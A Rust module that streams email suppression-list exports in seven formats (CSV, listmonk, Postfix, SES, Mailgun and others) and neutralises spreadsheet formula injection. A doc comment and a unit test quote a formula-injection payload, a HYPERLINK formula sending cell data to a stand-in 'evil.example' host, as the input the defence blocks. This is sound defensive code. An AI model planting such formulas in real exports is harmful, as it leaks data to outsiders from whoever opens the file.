//! Suppression-list exports: one writer per format over any [`Write`], one row at a time.
//!
//! | format | shape | for |
//! |---|---|---|
//! | `txt` | one address per line | Mailman `delmembers -f`, scripts |
//! | `csv` | `email,bounce_type,reason,status,replycode,diagnostic,first_seen,last_seen,count` | spreadsheets |
//! | `jsonl` | one JSON object per address | programs |
//! | `listmonk` | CSV `email,name,attributes` (attributes as JSON) | a listmonk blocklist import |
//! | `postfix` | `address REJECT 5.x.x text` | a Postfix access map, ready for `postmap` |
//! | `ses` | `address,BOUNCE` or `address,COMPLAINT` | an SES account-level suppression import |
//! | `mailgun` | CSV `address,code,error,created_at` | a Mailgun bounce list import |
//!
//! The writers keep no rows: memory does not grow with the list.
//!
//! In the CSV formats (`csv`, `listmonk`, `ses`, `mailgun`) a cell that a spreadsheet would read as
//! a formula (its first non-blank character is `=`, `+`, `-` or `@`, or it starts with a tab or a
//! carriage return) gets a leading `'`: see [`spreadsheet_cell`].

use std::borrow::Cow;
use std::fmt;
use std::io::{self, Write};
use std::str::FromStr;

use futures_util::TryStreamExt;
use serde::Serialize;

use crate::store::query::{ExportFilter, ExportRow};
use crate::store::{Store, StoreError};

/// An export format.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// One address per line.
    Txt,
    /// CSV with the bounce details.
    Csv,
    /// JSON lines.
    Jsonl,
    /// listmonk subscriber import CSV.
    Listmonk,
    /// Postfix access map.
    Postfix,
    /// Amazon SES suppression list import.
    Ses,
    /// Mailgun bounce list import.
    Mailgun,
}

impl Format {
    /// Every format, in the order `--help` lists them.
    pub const ALL: [Format; 7] = [
        Format::Txt,
        Format::Csv,
        Format::Jsonl,
        Format::Listmonk,
        Format::Postfix,
        Format::Ses,
        Format::Mailgun,
    ];

    /// The name on the command line.
    pub fn as_str(self) -> &'static str {
        match self {
            Format::Txt => "txt",
            Format::Csv => "csv",
            Format::Jsonl => "jsonl",
            Format::Listmonk => "listmonk",
            Format::Postfix => "postfix",
            Format::Ses => "ses",
            Format::Mailgun => "mailgun",
        }
    }
}

impl fmt::Display for Format {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for Format {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Format::ALL
            .iter()
            .copied()
            .find(|f| f.as_str().eq_ignore_ascii_case(s.trim()))
            .ok_or_else(|| {
                let names: Vec<&str> = Format::ALL.iter().map(|f| f.as_str()).collect();
                format!(
                    "unknown format `{s}` (expected one of {})",
                    names.join(", ")
                )
            })
    }
}

/// Collapses control characters (line breaks, tabs) to single spaces, so every row stays one line.
fn one_line(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut space = false;
    for c in s.trim().chars() {
        if c.is_control() || c == ' ' {
            if !space {
                out.push(' ');
            }
            space = true;
        } else {
            out.push(c);
            space = false;
        }
    }
    out
}

/// A cell of a CSV file as written: when a spreadsheet would take it for a formula (its first
/// non-blank character is `=`, `+`, `-` or `@`, or it starts with a tab or a carriage return), it
/// gets a leading `'`, which spreadsheets read as "this is text". Diagnostics and addresses come
/// from the Internet: `=HYPERLINK("http://evil.example/?"&B2, "...")` in a diagnostic would otherwise
/// run in the spreadsheet of whoever opens the export.
pub fn spreadsheet_cell(s: &str) -> Cow<'_, str> {
    let formula = s.starts_with(['\t', '\r'])
        || s.trim_start().starts_with([
            '=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
        ]);
    if formula {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// Writes one CSV record, each cell made safe for spreadsheets.
fn write_cells<W: Write>(w: &mut csv::Writer<W>, cells: &[&str]) -> io::Result<()> {
    w.write_record(cells.iter().map(|c| spreadsheet_cell(c).into_owned()))
        .map_err(csv_err)
}

/// `5.x.y` with one to three digits in each of the last two parts.
fn is_permanent_status(s: &str) -> bool {
    let mut parts = s.split('.');
    let ok = |p: Option<&str>| {
        p.is_some_and(|p| (1..=3).contains(&p.len()) && p.bytes().all(|b| b.is_ascii_digit()))
    };
    parts.next() == Some("5") && ok(parts.next()) && ok(parts.next()) && parts.next().is_none()
}

/// The enhanced code and text of a Postfix `REJECT` line for a row.
fn postfix_action(row: &ExportRow) -> (String, String) {
    let code = match row.bounce_type.as_str() {
        "hard" => row
            .status
            .as_deref()
            .filter(|s| is_permanent_status(s))
            .unwrap_or("5.1.1")
            .to_owned(),
        _ => "5.7.1".to_owned(),
    };
    let text = match row.bounce_type.as_str() {
        "hard" => format!(
            "Recipient address suppressed after a hard bounce ({})",
            row.reason
        ),
        "complaint" => "Recipient address suppressed after a complaint".to_owned(),
        "soft" => format!(
            "Recipient address suppressed after repeated soft bounces ({})",
            row.reason
        ),
        _ => "Recipient address suppressed by the operator".to_owned(),
    };
    (code, text)
}

#[derive(Serialize)]
struct ListmonkAttributes<'a> {
    bounced: ListmonkBounce<'a>,
}

#[derive(Serialize)]
struct ListmonkBounce<'a> {
    bounce_type: &'a str,
    reason: &'a str,
    status: Option<&'a str>,
    suppressed_at: String,
    count: i64,
}

enum Sink<W: Write> {
    Plain(W),
    Csv(Box<csv::Writer<W>>),
}

/// Writes rows of one format to `W`, a row at a time.
pub struct Writer<W: Write> {
    format: Format,
    sink: Sink<W>,
    rows: u64,
}

fn csv_err(e: csv::Error) -> io::Error {
    match e.into_kind() {
        csv::ErrorKind::Io(e) => e,
        other => io::Error::other(format!("{other:?}")),
    }
}

impl<W: Write> Writer<W> {
    /// Starts an export, writing the header line where the format has one.
    pub fn new(format: Format, out: W) -> io::Result<Writer<W>> {
        let sink = match format {
            Format::Txt | Format::Jsonl | Format::Postfix => Sink::Plain(out),
            Format::Csv | Format::Listmonk | Format::Ses | Format::Mailgun => {
                let mut w = csv::WriterBuilder::new()
                    .has_headers(false)
                    .terminator(csv::Terminator::Any(b'\n'))
                    .from_writer(out);
                let header: Option<&[&str]> = match format {
                    Format::Csv => Some(&[
                        "email",
                        "bounce_type",
                        "reason",
                        "status",
                        "replycode",
                        "diagnostic",
                        "first_seen",
                        "last_seen",
                        "count",
                    ]),
                    Format::Listmonk => Some(&["email", "name", "attributes"]),
                    Format::Mailgun => Some(&["address", "code", "error", "created_at"]),
                    _ => None,
                };
                if let Some(h) = header {
                    w.write_record(h).map_err(csv_err)?;
                }
                Sink::Csv(Box::new(w))
            }
        };
        Ok(Writer {
            format,
            sink,
            rows: 0,
        })
    }

    /// Writes one suppressed address.
    pub fn write(&mut self, row: &ExportRow) -> io::Result<()> {
        self.rows += 1;
        let email = row.email.as_str();
        match (&mut self.sink, self.format) {
            (Sink::Plain(w), Format::Txt) => writeln!(w, "{email}"),
            (Sink::Plain(w), Format::Jsonl) => {
                let mut clean = row.clone();
                clean.diagnostic = row.diagnostic.as_deref().map(one_line);
                serde_json::to_writer(&mut *w, &clean).map_err(io::Error::other)?;
                w.write_all(b"\n")
            }
            (Sink::Plain(w), _) => {
                let (code, text) = postfix_action(row);
                writeln!(w, "{email} REJECT {code} {text}")
            }
            (Sink::Csv(w), Format::Csv) => {
                let diagnostic = row.diagnostic.as_deref().map(one_line).unwrap_or_default();
                write_cells(
                    w,
                    &[
                        email,
                        &row.bounce_type,
                        &row.reason,
                        row.status.as_deref().unwrap_or(""),
                        row.replycode.as_deref().unwrap_or(""),
                        &diagnostic,
                        &row.first_seen.rfc3339(),
                        &row.last_seen.rfc3339(),
                        &row.count.to_string(),
                    ],
                )
            }
            (Sink::Csv(w), Format::Listmonk) => {
                let name = email.rsplit_once('@').map_or(email, |(local, _)| local);
                let attrs = ListmonkAttributes {
                    bounced: ListmonkBounce {
                        bounce_type: &row.bounce_type,
                        reason: &row.reason,
                        status: row.status.as_deref(),
                        suppressed_at: row.suppressed_at.rfc3339(),
                        count: row.count,
                    },
                };
                let json = serde_json::to_string(&attrs).map_err(io::Error::other)?;
                write_cells(w, &[email, name, &json])
            }
            (Sink::Csv(w), Format::Ses) => {
                let kind = if row.bounce_type == "complaint" {
                    "COMPLAINT"
                } else {
                    "BOUNCE"
                };
                write_cells(w, &[email, kind])
            }
            (Sink::Csv(w), _) => {
                let code = row
                    .replycode
                    .as_deref()
                    .filter(|c| c.len() == 3 && c.starts_with(['4', '5']))
                    .unwrap_or("550");
                let error = row
                    .diagnostic
                    .as_deref()
                    .map(one_line)
                    .filter(|d| !d.is_empty())
                    .unwrap_or_else(|| row.reason.clone());
                write_cells(w, &[email, code, &error, &row.suppressed_at.0.to_rfc2822()])
            }
        }
    }

    /// Rows written so far.
    pub fn rows(&self) -> u64 {
        self.rows
    }

    /// Flushes and hands back the output.
    pub fn finish(self) -> io::Result<W> {
        match self.sink {
            Sink::Plain(mut w) => {
                w.flush()?;
                Ok(w)
            }
            Sink::Csv(w) => w.into_inner().map_err(|e| e.into_error()),
        }
    }
}

/// Why an export failed.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    /// The database could not be read.
    #[error(transparent)]
    Store(#[from] StoreError),
    /// The output could not be written.
    #[error("cannot write the export: {0}")]
    Io(io::Error),
}

// The cause is in the message, so it is not also given as the error's source (said once).
impl From<io::Error> for ExportError {
    fn from(e: io::Error) -> ExportError {
        ExportError::Io(e)
    }
}

/// Streams the suppressed addresses `filter` selects from `store` into `out` as `format`; returns
/// the number of rows and the output.
pub async fn export<W: Write>(
    store: &Store,
    filter: &ExportFilter,
    format: Format,
    out: W,
) -> Result<(u64, W), ExportError> {
    let mut w = Writer::new(format, out)?;
    let mut rows = store.export_rows(filter);
    while let Some(row) = rows.try_next().await? {
        w.write(&row)?;
    }
    let n = w.rows();
    Ok((n, w.finish()?))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formats_round_trip_their_names() {
        for f in Format::ALL {
            assert_eq!(f.as_str().parse::<Format>(), Ok(f));
        }
        assert!("xml".parse::<Format>().is_err());
    }

    #[test]
    fn formula_cells_become_text() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://evil.example/\")",
                "'=HYPERLINK(\"http://evil.example/\")",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("  =1+1", "'  =1+1"),
            ("\t=1", "'\t=1"),
            ("\u{ff1d}1+1", "'\u{ff1d}1+1"),
            ("550 5.1.1 user unknown", "550 5.1.1 user unknown"),
            ("ann@example.com", "ann@example.com"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_cell(cell), want, "{cell:?}");
        }
    }

    #[test]
    fn one_line_collapses_breaks() {
        assert_eq!(one_line(" a\r\n  b\tc "), "a b c");
    }

    #[test]
    fn permanent_status() {
        assert!(is_permanent_status("5.1.1"));
        assert!(is_permanent_status("5.7.26"));
        assert!(!is_permanent_status("4.2.2"));
        assert!(!is_permanent_status("5.1"));
        assert!(!is_permanent_status("5.1.1 x"));
    }
}
